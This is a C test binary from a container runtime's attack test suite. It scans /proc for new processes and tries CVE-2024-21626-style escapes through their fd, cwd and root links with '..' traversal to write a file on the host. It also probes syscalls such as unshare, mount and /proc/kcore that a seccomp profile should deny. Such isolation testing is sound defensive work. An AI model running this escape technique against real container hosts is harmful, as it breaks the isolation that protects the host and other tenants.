/* escape.c - what a hostile container runs in the attack cases (a static
 * binary in the test image; tests/integration/attacks.sh, tests/e2e).
 *
 *   escape watch SECONDS HOSTFILE
 *     For SECONDS, scans /proc as fast as it can for processes that were
 *     not there before (podinit's children on their way into this
 *     container: exec probes and hooks, a sibling container restarting
 *     in a shared PID namespace) and tries, for each, what CVE-2024-21626
 *     and its kin did: every /proc/PID/fd/N, /proc/PID/cwd and
 *     /proc/PID/root, then ".." up from there and HOSTFILE (a path on the
 *     host) created. A child still named podinit (or init, as /sbin/init
 *     on a device) is hammered until it has exec'd. Prints one summary
 *     line a second and a last one:
 *       escape: [done] seen=N podinit=N opened=N leaked=N escaped=N
 *     seen: new processes; podinit: those caught before their exec;
 *     opened: fds or links of any of them it could open (a probe after
 *     its exec is an ordinary process of this container); leaked: opened
 *     while the process was still podinit's (must stay 0); escaped: times
 *     HOSTFILE was created outside this container (must stay 0); a file
 *     made inside it (".." stops at the container's root) is removed and
 *     not counted.
 *   escape syscalls
 *     Prints NAME=RESULT for calls RuntimeDefault refuses:
 *     keyctl, add_key, unshare(CLONE_NEWUSER), unshare(CLONE_NEWNS),
 *     mount, mknod of /dev/kmsg, open of /proc/kcore. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 65536

static unsigned char seen_pid[MAX_SEEN / 8];
static unsigned long seen, podinit, opened, leaked, escaped, inside;

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* HOSTFILE from dirfd: up as far as ".." goes, then the host path */
static void try_escape(int dirfd, const char *hostfile)
{
	char path[4096] = "";
	for (int i = 0; i < 32; i++)
		strcat(path, "../");
	strncat(path, hostfile[0] == '/' ? hostfile + 1 : hostfile, sizeof path - strlen(path) - 1);
	int fd = openat(dirfd, path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	/* made in this container's own root (".." stopped there): no escape */
	struct stat made, here;
	if (fstat(fd, &made) == 0 && stat(hostfile, &here) == 0 && made.st_dev == here.st_dev &&
	    made.st_ino == here.st_ino) {
		inside++;
		unlink(hostfile);
	} else {
		escaped++;
		if (write(fd, "escaped\n", 8) < 0)
			escaped += 0;
	}
	close(fd);
}

static bool is_podinit(int pid)
{
	char p[64], comm[64] = "";
	snprintf(p, sizeof p, "/proc/%d/comm", pid);
	int c = open(p, O_RDONLY | O_CLOEXEC);
	if (c >= 0) {
		ssize_t n = read(c, comm, sizeof comm - 1);
		comm[n > 0 ? n : 0] = 0;
		close(c);
	}
	/* podinit, or /sbin/init on a device: its children before exec */
	return !strcmp(comm, "podinit\n") || !strcmp(comm, "init\n");
}

static void try_open(int pid, const char *p, int flags, const char *hostfile)
{
	int fd = open(p, flags | O_CLOEXEC);
	if (fd < 0)
		return;
	opened++;
	/* still podinit's after the open succeeded: it was open before exec */
	if (is_podinit(pid))
		leaked++;
	try_escape(fd, hostfile);
	close(fd);
}

static void attack_once(int pid, const char *hostfile, int nfds)
{
	char p[96];
	snprintf(p, sizeof p, "/proc/%d/cwd", pid);
	try_open(pid, p, O_PATH | O_DIRECTORY, hostfile);
	snprintf(p, sizeof p, "/proc/%d/root", pid);
	try_open(pid, p, O_PATH | O_DIRECTORY, hostfile);
	for (int n = 0; n < nfds; n++) {
		snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, n);
		try_open(pid, p, O_PATH, hostfile);
	}
}

/* A child of podinit's is hammered until it has exec'd or gone: the
 * window that matters is between its credential change and its exec. */
static void attack(int pid, const char *hostfile)
{
	if (is_podinit(pid)) {
		podinit++;
		for (int i = 0; i < 200000 && is_podinit(pid); i++)
			attack_once(pid, hostfile, 16);
	}
	attack_once(pid, hostfile, 64);
}

/* One pass over /proc: every pid not marked yet is marked and, when
 * attack is set, attacked. */
static int scan(int self, int do_attack, const char *hostfile)
{
	DIR *d = opendir("/proc");
	if (!d)
		return -1;
	struct dirent *de;
	while ((de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid <= 0 || pid >= MAX_SEEN || (seen_pid[pid / 8] >> (pid % 8) & 1))
			continue;
		seen_pid[pid / 8] |= (unsigned char)(1 << (pid % 8));
		if (do_attack && pid != self) {
			seen++;
			attack(pid, hostfile);
		}
	}
	closedir(d);
	return 0;
}

static int watch(double seconds, const char *hostfile)
{
	int self = getpid();
	double end = now() + seconds, next = now() + 1;
	if (scan(self, 0, hostfile) < 0) { /* what is there at the start is ours */
		perror("escape: /proc");
		return 1;
	}
	while (now() < end) {
		if (now() >= next) {
			printf("escape: seen=%lu podinit=%lu opened=%lu leaked=%lu escaped=%lu\n", seen,
			       podinit, opened, leaked, escaped);
			fflush(stdout);
			next += 1;
		}
		scan(self, 1, hostfile);
	}
	printf("escape: done seen=%lu podinit=%lu opened=%lu leaked=%lu escaped=%lu\n", seen, podinit,
	       opened, leaked, escaped);
	fflush(stdout);
	return 0;
}

static const char *result(long rc)
{
	static char buf[32];
	if (rc >= 0)
		return "allowed";
	snprintf(buf, sizeof buf, "%s", errno == EPERM ? "EPERM" : errno == EACCES ? "EACCES"
					: errno == ENOSYS ? "ENOSYS" : strerror(errno));
	return buf;
}

static int syscalls(void)
{
	/* KEYCTL_GET_KEYRING_ID of the session keyring, without creating it */
	printf("keyctl=%s\n", result(syscall(SYS_keyctl, 0, -3, 0)));
	printf("add_key=%s\n", result(syscall(SYS_add_key, "user", "x", "y", 1, -3)));
	printf("unshare_user=%s\n", result(unshare(CLONE_NEWUSER)));
	printf("unshare_mount=%s\n", result(unshare(CLONE_NEWNS)));
	printf("mount=%s\n", result(mount("none", "/tmp", "tmpfs", 0, NULL)));
	printf("mknod_kmsg=%s\n", result(mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11))));
	int fd = open("/proc/kcore", O_RDONLY);
	char b;
	printf("kcore_read=%s\n", fd < 0 ? result(fd) : read(fd, &b, 1) > 0 ? "data" : "empty");
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "watch"))
		return watch(atof(argv[2]), argv[3]);
	if (argc == 2 && !strcmp(argv[1], "syscalls"))
		return syscalls();
	fprintf(stderr, "usage: escape watch SECONDS HOSTFILE | escape syscalls\n");
	return 2;
}
